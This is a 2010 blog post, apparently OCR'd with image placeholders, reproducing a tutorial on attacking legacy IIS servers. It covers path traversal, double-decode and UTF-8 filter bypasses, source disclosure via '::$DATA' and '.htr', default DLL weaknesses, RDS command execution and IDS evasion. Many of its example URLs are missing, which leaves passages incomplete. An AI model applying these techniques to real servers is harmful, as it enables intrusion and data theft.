Welcome to my site. Please CLICK HERE to give your opinions regarding this new look of "PCTipsbyAnu". Thanks for visiting.

Thursday, July 15, 2010

Browse » Home » , , , , , , , , » How to exploit a IIS Server?

How to exploit a IIS Server?

Disclaimer: I do not condone hacking IIS servers in any way, shape or form. This guide is intended as a guide for admins to help them understand what most script kiddies don't understand but are happy to exploit.

--[On the first day, God created directory traversal]

Relative paths are the developers friend. They allow an entire website to be moved to another directory without the need for changing all the links in the html. For example, lets say we have a webpage called 'pictures.html' in the htdocs dir:

  Absolute path:  /home/webpages/htdocs/pictures.html
  Absolute path:  /home/webpages/images/pic1.gif
In the html you can refer to the 'pic1.gif' via an absolute path shown
above or use a relative path:

  Relative path: ../images/pic1.gif
The relative path tells the server that it has to goto the parent
directory (dot dot) -->  from /home/webpages/htdocs to /home/webpages.
Then the server goes into the images dir and looks for the gif file to display.

Anyone who has used the 'cd' command in DOS and *nix should be familiar with the operation. So what's the problem I hear you ask... well, the programmers of web server didn't think to check the supplied URL to ensure that the requested file was actually in the web directory. This allows someone to backtrack through the servers directory structure and request files that the web server has access to. For example,NB. you can also use double dots and double quotes. This is useful to evade Intrusion Detection Systems (IDS):
The webserver simply strips the extra stuff out and processes the request.
This is the same as the previous example and can make string matching IDS's work for their money.

--[On thesecond day, God created Hexadecimal]

Once programmers started to realise the mistake they began to create parser routines to check for naughty URL's and keep the requests within the document root. Then along comes a wiley hacker who wonders if by encoding the URL will it still be recognised by the parser routines.

You may have noticed that when you enter a URL that includes a space it is replaced with the hex equivalent (%20):
  http://www.target.com/stuff/my index.htmlbecomes

and voila, it works. So what would happen if we changed the now denied URL:


The parser routine checks for the existence of dots in the path and finds none... the webserver then proceeds with the request.

An interesting feature is that you can encode the hex symbol  and the web server will decode it all for you. This is called the "doubledecode".
For example, given the URL

the following will take place:

(1) On the first decode, the string will be converted to:

[%25 = '%' so '%252f' is decoded to '%2f']
(2) On the second decode, the string will be converted to:
[%2f = '/']

--[On the third day, God created Unicode]

The World Wide Web is a global phenomenon and as such needs to be globally interoperable. This raised the question of how to deal with all the different character sets around the world. As a response to this, Unicode was created:
   Unicode provides a unique number for every character, no matter
   what the platform, no matter what the program, no matter what
   the language. The Unicode Standard has been adopted by such
   industry leaders as Apple, HP, IBM, JustSystem, Microsoft,
   Oracle,SAP, Sun, Sybase, Unisys and many others. Unicode is
   required by modern standards such as XML, Java, ECMAScript
   (JavaScript), LDAP, CORBA 3.0, WML, etc., and is the official
   way to implement ISO/IEC 10646. It is supported in many operating systems, allmodern browsers, and many other products.
   -----from http://www.unicode.org---

The problem with Unicode is that it requires 16 bits for a single character and software tended to use 8 bits for a single character. Unicode TransForm using 8 bits (UTF-8) was created. This allows for multibyte encoding where a variable number of bytes can be used for each character:

  Character  1-byte  2-byte  3-byte
   .         2E      C0 AE   E0 80 AE
   /         2F      C0 AF   E0 80 AF
   \         5C      C1 9C   E0 81 9C
This lead to a new vulnerability in certain webservers. The parser didn't understand this new encoding and allowed it through :-)
For example:

Recent vulnerabilities have been taking advantage of the fact that the web server doesn't understand the Unicode UTF-8 character set but the underlying OS does:
Understanding the distinction between Unicode and UTF-8 can be difficult. As a general rule of thumb you can use the following format as a guide:
  %uxxxx          = Unicode
  %xx%xx          = UTF-8
  %xx             = Hexidecimal
  %xxxx           = Double Decode

--[On the fourth day, God created default installs]

IIS comesinstalled with various DLL's (Dynamic Link Libraries) that increase the functionality of the web server. These ISAPI (Internet Server API) applications allow programmers/developers to deliver more functionality to IIS.

The DLL's are loaded into memory at startup and offer significant speed over traditional CGI programs. For example, they can be combined with the Internet Database Connector (httpodbc.dll) to create interactive sites that use ODBC to access databases.

The problem is that some of these DLL's are insecure and are often installed with sample scripts that demonstrate how to exploit, erm, I mean use them.

ASP.DLL is used to pre-process requests that end in ".asp". ASP (Active Server Pages) are basically HTML pages with embedded code that is processed by the webserver before serving it to the client.

Here's some examples to illustrate how the sample pages installed by defaultcan aid someone breaking into your site via the ASP.DLL:
[prefix all the examples with http://www.target.com]

** Appending a '.' to the URL can reveal the source on older systems. Remember hex encoding? You can also try using %2e to do the same thing.

   ** This gives you an interface into the msadcs.dll and allows creation of DSN's. Read RFP's stuff for idea's on how to exploit this.

** You can view the source of anything in the document root. '/msadc/' needs to be in the request as it is checked for, wait for this, security :-)


   ** Appending '::$DATA' to the URL can reveal the source of the ASP.

   ** Append a hex value between 0x81 and 0xfe and you can reveal the source of any server processed file. This only works onservers that are Chinese, Japanese or Korean.** This one allows you to execute remote shell commands ;-)
ISM.DLL is used to process requests that end in ".htr". These pages were used to administer IIS3 servers. In IIS4 they are not used but various .htr samples are installed by default anyway and offer another avenue for entry.

/index.asp%20%20%20..(220 more)..%20%20.htr
** IIS will redirect this request to ISM.DLL, which will strip the '.htr
' extension and deliverthe source code of the file.'
** Does the same thing as the %20%20 exploit above. ISM.DLL strips the +.htr and delivers you the source of the file
** Excellent brute force opportunity if the dll exists. Successful logons will reveal lots of useful stuff.
** The iisadmpwd diectory contains several .htr files that allow NetBIOS resolution and password attacks.
** This method will only reveal directories but can be useful for identifying the servers structure for more advanced attacks later.
MSADCS.DLL is used to allow access to ODBC components via IIS using RDS (Remote Data Service). RDS is part of the default install of Microsoft Data Access Components (MDAC) and is a commonly exploited on IIS. It can allowarbitrary shell commands to be executed with system privileges.

** If this file exists then there's a pretty good chance that you can run the RDS exploit again the box. More on this later.
HTTPODBC.DLLis the Internet Connector Database (IDC) and used when the web server wants to connect to a database. It allows the creation of web pages from data in the database, and it allows you to update/delete items from within webpages. Pages with the extension '.idc' are sent to the HTTPODBC.DLL
for processing.

** Appending '::$DATA' to the URL can reveal the source of the IDC.
** Requesting a non-existance file will reveal the location of the web root.
** Creates a table based on the parameters it receives. Excellent place to look at for SQL injection.
SSINC.DLL is used for processing Server Side Includes (SSI). '.stm', '.shtm' and '.shtml' extension are sent to the DLL which interprets the SSI statements within the HTML before sending it to the client.

An example of SSI would be:
This SSI tells the server to include the 'news.txt' in the final HTML
sent to the use. SSI statements are beyond the scope of this document but offer another security hole open to our wiley hax0r. Ensure you remove the app mapping and disable SSI if you do not require its functionality.

SSINC.DLL is also vulnerable to a remote buffer overflow, read the
following advisory for details:Some examples of SSINC.DLL fun:

** If you request a file that doesn't exist then the server error message contains the the location of the web root.** Using this method allows you to view the the source code for index.asp.
IDQ.DLL is a component of MS Index Server and handles '.ida' and '.idq' requests. This DLL has had some big exposure with the recent Nimda worm.
I'm not going into too much detail but '.ida' was used in a buffer
overflow that resulted in user defined code being executed on the server.

/anything.ida or /anything.idq
** Requesting a non-existance file will reveal the location of the web root.
** You can use this to read any file on the same drive as the web root
CPSHOST.DLL is the Microsoft Posting Acceptor. This allows uploads to your IIS server, via a web browser or the Web Publishing Wizard. The existance of this DLL can allow attackers upload files to the server. Other files such asuploadn.asp, uploadx.asp, upload.asp and repost.asp are installed with Site Server and allow upload of documents to the server:

** If this file is there then you may be able to upload files to the server.
** Connecting to this page gives you a nice gui for uploading your own webpages. You probably need to brute the userid.
There are lots more example scripts in the default install and quite a few of them are very, very insecure. Microsoft recommends that you remove ALL samples from any production server including theExAir, WSH, ADO and other installed samples.

  IIS Default Web Site
  IISSAMPLES  - c:\inetpub\iissamples
  IISADMIN    - c:\winnt\system32\inetsrv\issadmin
  IISHELP     - c:\winnt\help
  SCRIPTS     - c:\inetpub\scripts
  IISADMPWD   - c:\winnt\systems32\inetsrv\iisadmpwd
  msadc       - c:\program files\common files\system\msadc
  logfiles    - c:\winnt\system32\logfiles
  default.htm - c:\inetpub\wwwroot

  IIS DefaultApp Mapping

  .asa   - c:\winnt\system32\inetsrv\asp.dll
  .asp   - c:\winnt\system32\inetsrv\asp.dll
  .cdx   - c:\winnt\system32\inetsrv\asp.dll
  .cer   - c:\winnt\system32\inetsrv\asp.dll
  .htr   - c:\winnt\system32\inetsrv\ism.dll
  .idc   - c:\winnt\system32\inetsrv\httpodbc.dll
  .shtm  - c:\winnt\system32\inetsrv\ssinc.dll
  .shtml - c:\winnt\system32\inetsrv\ssinc.dll
  .stm   - c:\winnt\system32\inetsrv\ssinc.dll

--[On the fifth day, God created Frontpage Extensions]
Microsoft Frontpage (Originally developed by Vermeer Tech Inc, if you've ever wondered why they use _vti_) is a web design tool that helps you create and maintain a web site and allows you to publish it to the web server.
In order to publish using Frontpage the server needs to run certain
programs, collectively called the Frontpage Server Extensions.

Sounds good I hear you say, but there are many, many security holes in Frontpage. You can list all the files, download password files and upload your own files on Frontpage enabled sites.

When you publish a file, Frontpage attempts to read the following URL to get all the information it needs to publish:

Then Frontpage uses the following URL to POST the files to the site:
It will come as no surprise that this file is not protected and open to

All information for the site is stored in the /_vti_pvt/ dir, and its world readable. Here's some of the things you can look for:


--[On the sixth day, God created CGI]--
The Common Gateway Interface (CGI) is a standard forinterfacing external applications to the web server. A CGI program is excuted in real time and is used to create dynamic web sites.

Generally, the CGI programs are kept in '/cgi-bin/' but can be placed anywhere. The programs can be written most languages but typically they are written in C, Perl or shell scripts.

Many sites will use freely available, downloadable scripts from places like Matt's Trojan, erm, I mean Matt's Script Archive. Its always a good idea to look through the source of the scripts for bad system calls and lax input validation.

CGI deserves a tutorial all to itself and I strongly suggest that you read the following tutorials... they explain it better than I ever could:

